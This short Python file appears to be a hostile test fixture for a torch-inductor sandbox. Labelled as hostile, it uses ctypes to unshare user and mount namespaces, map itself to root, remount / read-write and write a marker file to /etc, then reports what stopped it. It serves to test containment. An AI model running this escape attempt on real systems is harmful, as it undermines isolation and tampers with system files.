# target: torch-inductor
# description: hostile: makes itself root in a new user namespace and remounts / read-write there
import os

import torch


def attempt():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    uid = os.getuid()
    if libc.unshare(0x10000000 | 0x00020000) != 0:
        return f"unshare refused: {os.strerror(ctypes.get_errno())}"
    with open("/proc/self/uid_map", "w") as handle:
        handle.write(f"0 {uid} 1")
    code = libc.mount(None, b"/", None, 32 | 4096, None)
    with open("/etc/pwned", "w") as handle:
        handle.write("pwned")
    return f"remount {code}; WROTE /etc/pwned"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
